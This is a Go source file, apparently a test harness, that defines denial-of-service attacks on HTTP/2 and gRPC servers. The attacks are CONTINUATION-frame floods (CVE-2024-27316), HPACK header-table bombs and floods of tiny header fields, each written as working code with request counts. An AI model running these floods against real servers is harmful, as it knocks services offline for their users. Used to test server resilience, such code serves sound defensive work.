package attack

import (
	"fmt"
	"strings"

	"golang.org/x/net/http2"
)

// onFields are the attacks by header blocks.
func onFields() []Attack {
	return []Attack{
		{Name: "a header block without end", Why: "memory and CPU for headers that never come (CVE-2024-27316)",
			Quick: 1_500, Full: 100_000, Run: func(r *Run) {
				p := r.peer()
				_ = p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.Block(r.Hot)})
				field := append([]byte{0, 3, 'x', '-', 'a', 0x7f, 0xe9, 0x06}, strings.Repeat("v", 127+0x69+0x06<<7)...)
				p.each(r.N, func(uint32) { _ = p.Frames.WriteContinuation(1, false, field) })
				p.Settle()
			}},
		{Name: "header blocks without end, on many connections", Why: "each is kept until the rest comes",
			Quick: 10, Full: 1_000, Run: func(r *Run) {
				r.crowd(r.N, func(int) {
					p := r.peer()
					_ = p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.Block(r.Hot)})
					for range 60 {
						_ = p.Frames.WriteContinuation(1, false, make([]byte, 16_000)) // which is no block, but nobody knows yet
					}
					p.Flush()
				})
				r.peers[0].Await(r.Hold, never)
			}},
		{Name: "CONTINUATION without bytes", Why: "frames that no limit of bytes bounds",
			Quick: 2_000, Full: 2_000_000, Run: func(r *Run) {
				p := r.peer()
				_ = p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.Block(r.Hot)})
				p.each(r.N, func(uint32) { _ = p.Frames.WriteContinuation(1, false, nil) })
				p.Await(r.Hold, never)
			}},
		{Name: "HPACK bomb", Why: "a byte that refers to an entry of 3,500",
			Quick: 500, Full: 50_000, Run: func(r *Run) { bomb(r, 17) }},
		{Name: "HPACK bomb beyond the limit", Why: "the same, so long that the call is refused",
			Quick: 200, Full: 20_000, Run: func(r *Run) { bomb(r, 4_000) }},
		{Name: "many tiny fields", Why: "each costs more than its bytes",
			Quick: 50, Full: 5_000, Run: func(r *Run) {
				p := r.peer()
				p.each(r.N, func(id uint32) {
					p.fields(id, r.Hot, 1_200)
					_ = p.Frames.WriteRSTStream(id, http2.ErrCodeCancel)
				})
				p.Settle()
			}},
		{Name: "too many tiny fields", Why: "the list is too long by its entries alone",
			Quick: 20, Full: 80, Alike: true, Run: func(r *Run) {
				p := r.peer()
				// In one frame: grpc-go ends the connection if a list that is too long goes on in another, and the door the stream.
				p.each(r.N, func(id uint32) { p.fields(id, r.Hot, 2_200) })
				p.Must(ended(r.N))
			}},
		{Name: "headers that are interrupted", Why: "what comes between would be taken for a part of the block",
			Quick: 1, Full: 1, Alike: true, Run: func(r *Run) {
				p := r.peer()
				_ = p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.Block(r.Hot)})
				_ = p.Frames.WriteData(1, true, r.Hot.message())
				p.Must(never)
			}},
	}
}

// bombsAtOnce is how many streams of a bomb are opened before a PING.
const bombsAtOnce = 2_500

// bomb fills the server's header table with one long entry, and opens streams that refer to it often.
func bomb(r *Run, times int) {
	p := r.peer()
	long := strings.Repeat("v", 3_500) // with the other fields, it fits the table of 4,096
	p.Head(1, r.Cold, true, "x-long", long)
	var more []string
	for range times {
		more = append(more, "x-long", long)
	}
	// The server answers a PING now and then, because all the fields at once, uncompressed, are gigabytes. They take a busy
	// machine longer than a peer waits, though nothing is stuck.
	for begun := 0; begun < r.N && p.Flush(); begun += bombsAtOnce {
		p.each(min(bombsAtOnce, r.N-begun), func(id uint32) {
			id += uint32(2*begun) + 2
			p.Head(id, r.Cold, true, more...)
			_ = p.Frames.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		p.Settle()
	}
}

// fields begins a call with many fields, in as many frames as it takes.
func (p *Peer) fields(id uint32, call *Call, n int) {
	block := append([]byte(nil), p.Block(call)...)
	for i := range n {
		name := fmt.Sprintf("f%d", i%1_000)
		block = append(append(append(block, 0, byte(len(name))), name...), 0)
	}
	const frame = 16_000
	_ = p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:min(frame, len(block))], EndHeaders: len(block) <= frame})
	for rest := block[min(frame, len(block)):]; len(rest) > 0; {
		piece := rest[:min(frame, len(rest))]
		rest = rest[len(piece):]
		_ = p.Frames.WriteContinuation(id, len(rest) == 0, piece)
	}
}
